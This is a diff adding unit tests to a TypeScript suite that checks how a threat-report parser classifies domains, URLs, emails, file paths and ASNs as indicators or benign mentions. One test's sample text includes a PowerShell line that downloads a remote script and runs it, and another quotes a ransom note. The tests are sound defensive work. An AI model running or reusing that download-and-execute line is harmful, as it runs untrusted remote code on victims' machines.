@@ -378,4 +378,87 @@ describe("texts that are made to mislead", () => {
       "https://lab.quarry-notes.net/a": "reference",
     });
   });
+
+  it("does not take who asks for ransom for an author", () => {
+    const text =
+      "All your files are encrypted. To get the key write to help@orbit-sync.top or help@gmail.com.";
+    const mine: Written = ["email", "help@orbit-sync.top"];
+    const free: Written = ["email", "help@gmail.com"];
+    expect(rolesOf(text, [mine, free])).toEqual({
+      "help@orbit-sync.top": "indicator",
+      "help@gmail.com": "indicator",
+    });
+    expect(rolesOf("Questions? Write to help@gmail.com.", [free])).toEqual({
+      "help@gmail.com": "mentioned",
+    });
+  });
+
+  it("goes on with indicators behind the services among them", () => {
+    const text =
+      "Indicators of Compromise\n\norbit-sync.top\n\nLegitimate Services\n\nfile-box.io\n\nOther Hosts\n\ngrove-sync.top";
+    expect(
+      rolesOf(text, [
+        ["domain", "orbit-sync.top"],
+        ["domain", "file-box.io"],
+        ["domain", "grove-sync.top"],
+      ]),
+    ).toEqual({
+      "orbit-sync.top": "indicator",
+      "file-box.io": "legitimate_service",
+      "grove-sync.top": "indicator",
+    });
+  });
+
+  it("never takes for a link what an address serves", () => {
+    const text = "For more information, see below.\n\niwr http://198.18.7.9/l.ps1 | iex";
+    expect(rolesOf(text, [["url", "http://198.18.7.9/l.ps1"]])).toEqual({
+      "http://198.18.7.9/l.ps1": "indicator",
+    });
+  });
+
+  it("holds a page for an indicator where its host is listed, and not where it is told of alone", () => {
+    const page: Written = ["url", "http://orbit-sync.top/login"];
+    const text = "Somebody saw http://orbit-sync.top/login on Monday.\n\n";
+    expect(rolesOf(text, [page])).toEqual({ "http://orbit-sync.top/login": "reference" });
+    const listed = `${text}IOCs\n\norbit-sync.top\n`;
+    expect(rolesOf(listed, [page, ["domain", "orbit-sync.top"]])).toEqual({
+      "http://orbit-sync.top/login": "indicator",
+      "orbit-sync.top": "indicator",
+    });
+  });
+
+  it("takes a string of a rule for what else is said of it", () => {
+    const rule = 'rule a {\n  strings:\n    $h = "file-box.io"\n}';
+    const value: Written[] = [["domain", "file-box.io"]];
+    expect(rolesOf(rule, value)).toEqual({ "file-box.io": "mentioned" });
+    const text = `It uses the legitimate service file-box.io for it.\n\n${rule}`;
+    expect(rolesOf(text, value)).toEqual({ "file-box.io": "legitimate_service" });
+  });
+
+  it("gives a name a lower confidence where it is the system's own", () => {
+    const text =
+      "IOCs\n\ncmd.exe\nwinupd77.exe\nC:\\Windows\\System32\\cmd.exe\nC:\\Temp\\cmd.exe\n";
+    const values: Written[] = [
+      ["file_path", "C:\\Windows\\System32\\cmd.exe"],
+      ["file_path", "C:\\Temp\\cmd.exe"],
+      ["file_name", "winupd77.exe"],
+    ];
+    expect(rolesOf(text, values)).toEqual({
+      "C:\\Windows\\System32\\cmd.exe": "mentioned",
+      "C:\\Temp\\cmd.exe": "indicator",
+      "winupd77.exe": "indicator",
+    });
+  });
+
+  it("does not read a number for documentation as an indicator", () => {
+    expect(
+      rolesOf("IOCs\n\nAS64496\nAS204957", [
+        ["asn", "AS64496"],
+        ["asn", "AS204957"],
+      ]),
+    ).toEqual({
+      AS64496: "example",
+      AS204957: "indicator",
+    });
+  });
 });
